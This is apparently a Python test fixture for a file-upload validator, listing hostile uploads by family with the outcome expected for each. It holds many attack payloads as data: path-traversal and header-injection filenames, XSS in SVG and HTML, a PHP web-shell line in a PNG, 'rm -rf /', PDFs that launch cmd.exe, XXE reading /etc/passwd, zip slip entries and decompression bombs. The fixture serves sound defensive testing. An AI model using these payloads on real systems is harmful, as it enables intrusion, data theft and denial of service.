"""Two hundred hostile uploads, by family: what each is called, its bytes, and what must come of it."""

import struct
import zlib
from hashlib import sha256
from itertools import product
from typing import NamedTuple

from tests.files import HARMLESS, SCRIPT, TYPES, chunk, image, office, packed, pdf, png

REFUSED, INERT = "refused", "inert"
PNG = image()
ENDINGS = ("png", "jpg", "gif", "webp", "pdf", "docx", "xlsx", "pptx")


class Upload(NamedTuple):
    """What is announced, what is sent, and what must come of it."""

    label: str
    name: str
    content: bytes
    outcome: str = REFUSED
    size: int | None = None
    sha256: str | None = None
    sent: bytes | None = None

    @property
    def announced(self):
        size = len(self.content) if self.size is None else self.size
        return {"name": self.name, "size": size, "sha256": self.sha256 or sha256(self.content).hexdigest()}


def names():
    """A harmless picture under names that lead elsewhere, hide what they are, or break what quotes them."""
    refused = [
        "../x.png",
        "../../../etc/passwd.png",
        "..\\..\\x.png",
        "/etc/cron.d/x.png",
        "C:\\x.png",
        "a/b.png",
        "./x.png",
    ]
    refused += ["a\x01b.png", "a\tb.png", "a\nb.png", "a\r\nSet-Cookie: x=1.png", "x.png\u2028.png"]
    refused += [
        "\u202egnp.exe",
        "photo\u202egnp.png",
        "a\u200bb.png",
        "a\u2066b.png",
        "\ufeffx.png",
        "a\u00adb.png",
        "a\ue000.png",
    ]
    refused += ["", " ", "x", "x.", "png", "a" * 197 + ".png", "x.png\u200e"]
    refused += [
        f"x.{end}"
        for end in [
            "html",
            "htm",
            "svg",
            "xhtml",
            "xml",
            "js",
            "mjs",
            "mht",
            "hta",
            "swf",
            "exe",
            "bat",
            "sh",
            "php",
            "jar",
            "zip",
            "doc",
            "docm",
            "xlsm",
            "pptm",
            "dotm",
        ]
    ]
    refused += ["x.png.html", "x.pdf.exe", "x.png;.html", "x.png%00.html", "x.png::$DATA"]
    inert = [
        "x.html.png",
        "x.PNG",
        ".htaccess.png",
        "%2e%2e%2fx.png",
        'x";filename="y.html.png',
        "<img onerror=alert(1)>.png",
    ]
    inert += [
        "x.html;.png",
        "'; drop table files.png",
        "=cmd|x.png",
        "CON.png",
        "\uff58\uff0ehtml.png",
        "..png",
        "日本.png",
        "x\u0301.png",
    ]
    for name, outcome in [(each, REFUSED) for each in refused] + [(each, INERT) for each in inert]:
        yield Upload(f"name {name!a}", name, PNG, outcome)


FOREIGN = {
    "HTML": SCRIPT,
    "SVG": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
    "XML": b'<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    "JavaScript": b"alert(document.domain)//",
    "Windows program": b"MZ" + bytes(126) + b"PE\0\0" + bytes(64),
    "Linux program": b"\x7fELF\x02\x01\x01" + bytes(64),
    "shell script": b"#!/bin/sh\nrm -rf /\n",
    "old office file": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512),
    "plain zip": packed([("index.html", SCRIPT)]),
    "single byte": b"x",
}


def foreign():
    """What is none of the types, under the ending of one."""
    for (what, content), ending in product(FOREIGN.items(), ENDINGS):
        yield Upload(f"{what} as {ending}", f"x.{ending}", content)


def confused():
    """One type under the ending of another."""
    for name, content in HARMLESS.items():
        own = name.partition(".")[2].replace("jpeg", "jpg")
        for ending in ENDINGS[ENDINGS.index(own) + 1 :][:2] or ("png",):
            yield Upload(f"{name} as {ending}", f"x.{ending}", content)


def polyglots():
    """Files of one type that are also scripts or pages to who looks at them otherwise."""
    gif, jpeg, webp = image("GIF"), image("JPEG", comment=SCRIPT), image("WEBP")
    comment = b"\x21\xfe" + bytes([len(SCRIPT)]) + SCRIPT + b"\0"
    yield Upload("GIF with a page after it", "x.gif", gif + SCRIPT, INERT)
    yield Upload("GIF with a page as comment", "x.gif", gif[:-1] + comment + gif[-1:], INERT)
    yield Upload("GIF that is a script", "x.gif", b"GIF89a/*" + gif[8:] + b"*/=1;alert(1)//", INERT)
    yield Upload("JPEG with a page as comment", "x.jpg", jpeg, INERT)
    yield Upload("JPEG with a script in front of its end", "x.jpg", jpeg + b"*/alert(1)/*", INERT)
    yield Upload("JPEG that is a program archive", "x.jpg", jpeg + packed([("META-INF/MANIFEST.MF", b"x")]), INERT)
    yield Upload("PNG with a page as text", "x.png", png(1, 1, chunk(b"tEXt", b"Comment\0" + SCRIPT)), INERT)
    yield Upload("PNG with a page after it", "x.png", PNG + SCRIPT, INERT)
    yield Upload("PNG with PHP in it", "x.png", png(1, 1, chunk(b"tEXt", b"x\0<?php system($_GET[0]);?>")), INERT)
    yield Upload("WebP with a page after it", "x.webp", webp + SCRIPT, INERT)
    yield Upload("WebP whose metadata is a page", "x.webp", image("WEBP", xmp=SCRIPT), INERT)
    yield Upload("PDF with a page in front", "x.pdf", pdf(before=SCRIPT))
    yield Upload("PDF with a script in front", "x.pdf", pdf(before=b"alert(1);/*"))
    yield Upload("PDF with a page after it", "x.pdf", pdf(after=SCRIPT), INERT)
    yield Upload("PDF whose first line is a page", "x.pdf", pdf().replace(b"%PDF-1.7", b"%PDF-1.7 " + SCRIPT, 1), INERT)
    yield Upload("page that mentions PDF", "x.pdf", SCRIPT + b"%PDF-1.7 startxref %%EOF")


def documents():
    """PDFs that do something when they are opened, and such as are none."""
    for what, catalog in {
        "a script": b"/OpenAction <</S /JavaScript /JS (app.alert(1))>>",
        "a program to start": b"/OpenAction <</S /Launch /F (cmd.exe)>>",
        "a form that is sent": b"/OpenAction <</S /SubmitForm /F (https://x.example)>>",
        "a page to open": b"/OpenAction <</S /URI /URI (https://x.example)>>",
        "another file inside": b"/Names <</EmbeddedFiles <</Names [(x.exe) <</F (x.exe)>>]>>>>",
        "an XFA form": b"/AcroForm <</XFA (<xdp/>)>>",
        "a script for every page": b"/AA <</O <</S /JavaScript /JS (1)>>>>",
    }.items():
        yield Upload(f"PDF with {what}", "x.pdf", pdf(catalog), INERT)
    yield Upload("PDF without an end", "x.pdf", pdf().replace(b"%%EOF", b""))
    yield Upload("PDF that is cut off", "x.pdf", pdf()[:60])
    yield Upload("PDF that is its head alone", "x.pdf", b"%PDF-1.7\n")
    yield Upload("PDF whose end is far from its end", "x.pdf", pdf(after=b"x" * 5_000))


def encrypted(content):
    """Say of each part that a password locks it."""
    changed = bytearray(content)
    for sign, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = changed.find(sign)
        while at >= 0:
            changed[at + offset] |= 1
            at = changed.find(sign, at + 4)
    return bytes(changed)


def lying(content, size=10):
    """Say of the first part that it is smaller than it is, in both places."""
    changed = bytearray(content)
    struct.pack_into("<I", changed, 22, size)
    struct.pack_into("<I", changed, changed.find(b"PK\x01\x02") + 24, size)
    return bytes(changed)


def bomb(package):
    package.writestr("word/media/zeros.xml", b"\0" * 210_000_000)


def office_files():
    """Documents with macros, programs, and threads to the outside; packages that are bombs or lie."""
    for kind in ("docx", "xlsx", "pptx"):
        folder = {"docx": "word", "xlsx": "xl", "pptx": "ppt"}[kind]
        cases = {
            "that is macro-enabled": office(kind, main=f"application/vnd.ms-{folder}.document.macroEnabled.main+xml"),
            "with a macro part": office(kind, parts=[(f"{folder}/vbaProject.bin", b"\xd0\xcf\x11\xe0")]),
            "with a macro's type": office(
                kind, types='<Default Extension="x" ContentType="application/vnd.ms-office.vbaProject"/>'
            ),
            "with ActiveX": office(
                kind, types='<Default Extension="x" ContentType="application/vnd.ms-office.activeX+xml"/>'
            ),
            "with an OLE object": office(kind, parts=[(f"{folder}/embeddings/oleObject1.bin", b"x")]),
            "with a program": office(kind, parts=[(f"{folder}/media/image1.exe", b"MZ")]),
            "with a foreign template": office(
                kind, relations=[("attachedTemplate", "https://x.example/t.dotm", "External")]
            ),
            "with a foreign picture": office(kind, relations=[("image", "https://x.example/1.png", "External")]),
            "with a foreign share": office(kind, relations=[("frame", "\\\\x.example\\share", "External")]),
            "with an entity bomb": office(kind, declaration='<!DOCTYPE x [<!ENTITY a "aaaa">]>'),
            "with a foreign entity": office(kind, declaration='<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'),
            "with a part that leads out": office(kind, parts=[("../../etc/passwd", b"x")]),
            "with a part from the root": office(kind, parts=[("/etc/passwd", b"x")]),
            "with a locked part": encrypted(office(kind)),
            "with a part that lies about its size": lying(office(kind)),
            "without an end": office(kind)[:-30],
            "with a page in front": SCRIPT + office(kind),
            "of no type": packed([("word/document.xml", b"<x/>")]),
            "whose list is no XML": packed([(TYPES, SCRIPT[:-7])]),
        }
        for what, content in cases.items():
            yield Upload(f"{kind} {what}", f"x.{kind}", content)
    yield Upload("docx that is a bomb", "x.docx", office("docx", entry=bomb))
    yield Upload(
        "docx of too many parts", "x.docx", office("docx", parts=[(f"word/{n}.xml", b"") for n in range(5_001)])
    )
    twice = office("docx", parts=[("word/a.xml", b"1"), ("word/A.xml", b"2")])
    yield Upload("docx with a part twice", "x.docx", twice)
    yield Upload(
        "docx with a picture that is a script",
        "x.docx",
        office("docx", parts=[("word/media/1.svg", FOREIGN["SVG"])]),
        INERT,
    )


def huge(kind):
    """The head of an image of billions of pixels."""
    if kind == "gif":
        return b"GIF89a" + struct.pack("<HH", 65_535, 65_535) + image("GIF")[10:]
    if kind == "jpg":
        made = bytearray(image("JPEG"))
        at = made.find(b"\xff\xc0")
        struct.pack_into(">HH", made, at + 5, 65_500, 65_500)
        return bytes(made)
    extended = b"VP8X" + struct.pack("<I", 10) + bytes(4) + (16_382).to_bytes(3, "little") * 2
    body = b"WEBP" + extended + image("WEBP")[12:]
    return b"RIFF" + struct.pack("<I", len(body)) + body


def images():
    """Pictures that are bombs, broken, or end too early."""
    yield Upload("PNG of 900 million pixels", "x.png", png(30_000, 30_000))
    yield Upload("PNG of one endless line", "x.png", png(60_000_000, 1))
    yield Upload("PNG of nothing", "x.png", png(0, 0))
    yield Upload(
        "PNG whose text unpacks to very much",
        "x.png",
        png(1, 1, chunk(b"zTXt", b"x\0\0" + zlib.compress(b"\0" * 80_000_000))),
    )
    yield Upload("PNG with a wrong checksum", "x.png", PNG[:-20] + b"\0\0\0\0" + PNG[-16:])
    yield Upload("PNG that is cut off", "x.png", PNG[:40])
    yield Upload("PNG that is its head alone", "x.png", PNG[:8])
    yield Upload("GIF of 4 billion pixels", "x.gif", huge("gif"))
    yield Upload("GIF that is its head alone", "x.gif", b"GIF89a")
    yield Upload("JPEG of 4 billion pixels", "x.jpg", huge("jpg"))
    yield Upload("JPEG that is its head alone", "x.jpg", b"\xff\xd8\xff\xe0")
    yield Upload("WebP of 268 million pixels", "x.webp", huge("webp"))
    yield Upload("sound in WebP's wrapping", "x.webp", b"RIFF\x24\0\0\0WAVEfmt " + bytes(24))
    yield Upload("PNG whose pixels are missing", "x.png", png(4_000, 4_000), INERT)


def transfers():
    """What is sent is not what was announced."""
    other = sha256(b"other").hexdigest()
    yield Upload("wrong checksum", "x.png", PNG, sha256=other)
    yield Upload("checksum that is none", "x.png", PNG, sha256="x" * 64)
    yield Upload("checksum that is too short", "x.png", PNG, sha256=other[:-1])
    yield Upload("empty file", "x.png", b"")
    yield Upload("less than nothing", "x.png", PNG, size=-1)
    yield Upload("more than is allowed", "x.png", PNG, size=26_214_401)
    yield Upload("more bytes than announced", "x.png", PNG, sent=PNG + b"\0")
    yield Upload("many more bytes than announced", "x.png", PNG, sent=PNG * 10_000)
    yield Upload("fewer bytes than announced", "x.png", PNG, sent=PNG[:-1])
    yield Upload("no bytes", "x.png", PNG, sent=b"")
    yield Upload("as many other bytes", "x.png", PNG, sent=SCRIPT.ljust(len(PNG))[: len(PNG)])
    yield Upload("checksum of what was sent, not of what was announced", "x.png", SCRIPT, sent=PNG)


FAMILIES = {
    each.__name__: list(each())
    for each in (names, foreign, confused, polyglots, documents, office_files, images, transfers)
}
